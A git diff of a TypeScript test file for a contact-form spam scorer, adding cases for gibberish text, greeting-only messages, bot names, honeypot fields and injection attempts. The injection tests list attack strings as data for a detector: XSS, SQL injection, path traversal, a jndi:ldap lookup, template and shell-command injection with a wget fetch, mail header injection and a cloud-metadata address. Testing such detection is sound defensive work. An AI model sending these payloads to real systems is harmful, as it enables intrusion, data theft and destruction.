@@ -1,7 +1,8 @@
 import { describeReason } from '../../src/spam/describe-score';
 import { createModel } from '../../src/spam/model';
 import { rules } from '../../src/spam/rules/table';
-import { type SpamInput, type SpamReason, scoreSubmission } from '../../src/spam/score';
+import { scoreSubmission } from '../../src/spam/score';
+import { type SpamInput, type SpamReason, unknownRequest } from '../../src/spam/spam-input';
 import { buildInput, buildMessage } from './build-input';
 
 const base = createModel(null);
@@ -11,7 +12,7 @@ const describeRule = (input: SpamInput, rule: string): string | undefined => {
   const reason = find(input, rule);
   return reason && describeReason(reason);
 };
-const headers = { userAgent: null, acceptLanguage: null, referer: null, origin: null };
+const { headers } = unknownRequest;
 const browser = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
 const sentence = 'I would like to know more about the blue chairs that you sell in your shop in town';
 
@@ -46,13 +47,84 @@ describe('what each rule finds, in words for owners', () => {
     ['link-markup', buildMessage('[url=http://a.com]cheap[/url]'), 'links written as [url]'],
     ['link-markup', buildMessage('<a href="http://a.com">cheap</a>'), 'links written as <a href>'],
     ['look-alikes', buildMessage('the best саsino and bоnus'), 'two words with look-alike letters'],
-    ['mixed-name', buildInput({ name: 'Rоbert Brown' }), 'Cyrillic letters in a Latin name'],
+    ['mixed-name', buildInput({ name: 'Rоbert Brown' }), 'a name that mixes Latin letters with others'],
     ['hidden-characters', buildMessage('cheap vi\u200bagra'), 'invisible characters inside words'],
     ['styled-letters', buildMessage('𝗕𝗲𝘀𝘁 𝗼𝗳𝗳𝗲𝗿'), 'words in mathematical letters'],
     ['capitals', buildMessage('BUY NOW AND GET TWO FOR THE PRICE OF ONE BEFORE MIDNIGHT'), 'text in capital letters'],
     ['gibberish-name', buildInput({ name: 'kTqGzLwPvX' }), 'a name of random letters (kTqGzLwPvX)'],
-    ['gibberish-text', buildMessage('RbTpXfQhKzWm'), 'a message of random letters (RbTpXfQhKzWm)'],
+    ['gibberish-text', buildMessage('RbTpXfQhKzWm'), 'a message of random letters or digits (RbTpXfQhKzWm)'],
+    ...[
+      'asdf asdf',
+      'aaaaaa',
+      '555',
+      '123 456',
+      'sdfghj kjhg',
+      'xxx yyy',
+      'йцукен',
+      'fghjk dfgdfg',
+      'x'.repeat(60),
+    ].map((text): [string, SpamInput, string] => [
+      'gibberish-text',
+      buildMessage(text),
+      `a message of random letters or digits (${text.slice(0, 40)})`,
+    ]),
+    ...['test', 'Hello!', 'HI', 'Bonjour, test', 'тест', 'Cześć', '你好'].map((text): [string, SpamInput, string] => [
+      'empty-message',
+      buildMessage(text),
+      `a message that only greets or tests (${text})`,
+    ]),
+    ...['RobertWep', 'DavidGok', 'JamesErymn'].map((name): [string, SpamInput, string] => [
+      'bot-name',
+      buildInput({ name }),
+      `a machine-generated name (${name})`,
+    ]),
+    ...['_gotcha', 'bot-field', '_honey', 'honeypot'].map((name): [string, SpamInput, string] => [
+      'hidden-field',
+      buildInput({ [name]: 'Ada', message: sentence }),
+      'a filled-in hidden field',
+    ]),
+    ...(
+      [
+        ['<script>alert(1)</script>', 'a script'],
+        ['<img src=x onerror=alert(1)>', 'a script'],
+        ['javascript:alert(document.cookie);', 'a script'],
+        ['javascript:/*--></title>', 'a script'],
+        ["1' OR '1'='1", 'a database command'],
+        ['" or ""="', 'a database command'],
+        ["admin') or 1=1--", 'a database command'],
+        ["' or 5=6", 'a database command'],
+        ["x' UNION ALL SELECT password FROM users;--", 'a database command'],
+        ['1; DROP TABLE users', 'a database command'],
+        ["1' waitfor delay '0:0:15'--", 'a database command'],
+        ['../../../../etc/passwd', 'a path of the server'],
+        ['..\\..\\windows\\win.ini', 'a path of the server'],
+        ['\u0024{jndi:ldap://x.example/a}', 'a template'],
+        ['{{7*7}}', 'a template'],
+        ['1; cat /tmp/x', 'a system command'],
+        ['|id', 'a system command'],
+        ['`sleep 15`', 'a system command'],
+        ['& wget http://a.example/x;', 'a system command'],
+        ['$(whoami)', 'a system command'],
+        ['<a>\nBcc: victim@example.com', 'a mail header'],
+        ['x%0aCc:victim@example.com;', 'a mail header'],
+        ['http://169.254.169.254/latest', 'an address inside the network'],
+      ] as const
+    ).map(([text, what]): [string, SpamInput, string] => [
+      'injection',
+      buildInput({ subject: text, message: sentence }),
+      `what looks like an attack: ${what}`,
+    ]),
+    ...['Hi {first_name}, nice site', '{Hello|Hi} there', 'I found %website% today', 'Dear {{ company }}'].map(
+      (text): [string, SpamInput, string] => [
+        'unfilled',
+        buildMessage(text),
+        'unfilled placeholders such as {first_name}',
+      ],
+    ),
     ['name-content', buildInput({ name: 'Win now www.win-now.com' }), 'a link in place of a name'],
+    ['name-content', buildInput({ name: 'best-win.com' }), 'a link in place of a name'],
+    ['name-content', buildInput({ name: '555-12' }), 'numbers in place of a name'],
+    ['name-content', buildInput({ name: 'You got $ 900' }), 'numbers in place of a name'],
     ['same-values', buildInput({ name: 'google', company: 'google', subject: 'google' }), 'the same value in 3 fields'],
     ['disposable-address', buildInput({ email: 'x@mailinator.com' }), 'a disposable e-mail address (mailinator.com)'],
     ['disposable-address', buildInput({ email: 'x@a.mailinator.com' }), 'a disposable e-mail address (mailinator.com)'],
@@ -60,6 +132,12 @@ describe('what each rule finds, in words for owners', () => {
     ['made-up-address', buildInput({ email: 'r.o.b.er.t.s@gmail.com' }), 'an e-mail address that looks made up'],
     ['speed', buildMessage(sentence, { fillMs: 2_400 }), 'a long text after two seconds'],
     ['repeats', buildMessage('hi', { repeats: 4 }), 'the same text in four other submissions of the last 24 hours'],
+    ['burst', buildMessage('hi', { burst: 3 }), 'the same text in three other submissions within the same minute'],
+    [
+      'repeated-link',
+      buildMessage('hi', { linkRepeats: 2 }),
+      'a link also found in two other submissions in the last 24 hours',
+    ],
     [
       'headers',
       buildMessage('hi', { headers: { ...headers, origin: 'https://a.com' } }),
@@ -136,7 +214,57 @@ describe('what the rules let pass', () => {
     ['look-alikes', buildMessage('IT-компания купила 5 μm фильтр, CRM-система')],
     ['mixed-name', buildInput({ name: 'Дмитрий Smith' })],
     ['hidden-characters', buildMessage('👩‍👩‍👧 می‌خواهم')],
-    ['gibberish-text', buildMessage('Schrauben')],
+    ...[
+      'Schrauben',
+      'Call me: 07700 900418',
+      '07700 900418',
+      '+49 (0)171 2345-678',
+      'It was power',
+      'My code is 555',
+    ].map((text): [string, SpamInput] => ['gibberish-text', buildMessage(text)]),
+    ...['10245', '#48213', 'HTML', 'Muster GmbH'].map((subject): [string, SpamInput] => [
+      'gibberish-text',
+      buildInput({ subject, message: 'Where is my order?' }),
+    ]),
+    ...['Test drive on Friday', 'Hello, are you open?', '4711', '07700 900418', '👍', '...', 'hello '.repeat(10)].map(
+      (text): [string, SpamInput] => ['empty-message', buildMessage(text)],
+    ),
+    ...[
+      'McDonald',
+      'DeShawn',
+      'JeanPaul Sartre',
+      'MacKenzie',
+      'MaryAnn',
+      'JoAnn',
+      'LeBron',
+      'VanDyke',
+      'Robert',
+      'IBM',
+    ].map((name): [string, SpamInput] => ['bot-name', buildInput({ name })]),
+    ...['Ada', '-', 'Henry VIII', 'R2-D2', 'Mr. J. 3rd'].map((name): [string, SpamInput] => [
+      'name-content',
+      buildInput({ name }),
+    ]),
+    ...['', '0', 'false', 'Off', 'no', ' ', 0, false, null].map((honeypot): [string, SpamInput] => [
+      'hidden-field',
+      buildInput({ honeypot }),
+    ]),
+    ['hidden-field', buildInput({ honey: 'two jars', hp: '150', 'honey pots': 'three' })],
+    ...[
+      'We come with 2 adults; a dog & cat follow <3',
+      'I want the shirt (red) and size = 5, or "blue" and width = 30 cm',
+      'Skills: HTML; JavaScript: 5 years; PHP: 2 years',
+      'From: Bob <bob@example.com>\nTo: info@example.com\nCc: ada@example.com\nWhere is it?',
+      'Order 4711; id 55, invoice; id: 3 | please insert into the file',
+      'Sleeps 8; sleep 6 in beds & ping me then',
+      'Is 2 < 3 and a = b? Then {this} union of sets; select one',
+      'Please drop the table at the door; we sleep (well) there',
+    ].map((text): [string, SpamInput] => ['injection', buildMessage(text)]),
+    ...['A set {a, b} of 50 % or 5%', 'The offer | the price {see above}', 'My name % company'].map(
+      (text): [string, SpamInput] => ['unfilled', buildMessage(text)],
+    ),
+    ['burst', buildMessage('hi', { burst: 2 })],
+    ['repeated-link', buildMessage('hi', { linkRepeats: 1 })],
     ['malformed-address', buildInput({ email: '' })],
     ['made-up-address', buildInput({ email: 'john.ronald.tolkien@gmail.com' })],
     ['disposable-address', buildInput({ email: 'ada@gmail.com' })],
@@ -208,7 +336,20 @@ test('a flood is held even if its wording and the marks speak for a real message
   expect(score(30)).toBeGreaterThanOrEqual(6);
 });
 
-test('no rule holds a submission alone, except repeats and blocked words', () => {
+test('a filled hidden field holds a submission whose wording speaks for a real message', () => {
+  const lowestOfWording = -2;
+  const { points = 0 } = find(buildInput({ message: sentence, _gotcha: 'x' }), 'hidden-field') ?? {};
+  expect(points + lowestOfWording).toBeGreaterThanOrEqual(5);
+});
+
+test('code in a long text has few points', () => {
+  const question = `Your snippet <script src="/a.js"></script> does nothing here. ${`${sentence}. `.repeat(4)}`;
+  const points = (message: string) => find(buildMessage(message), 'injection')?.points ?? 0;
+  expect(points(question)).toBeGreaterThan(0);
+  expect(points(question)).toBeLessThanOrEqual(points('<script src="/a.js"></script>') / 3);
+});
+
+test('no weak sign holds a submission alone', () => {
   const strongest: SpamInput[] = [
     buildMessage('The drawing of the shelf that you asked for: https://bit.ly/a'),
     buildMessage('https://bit.ly/a'),
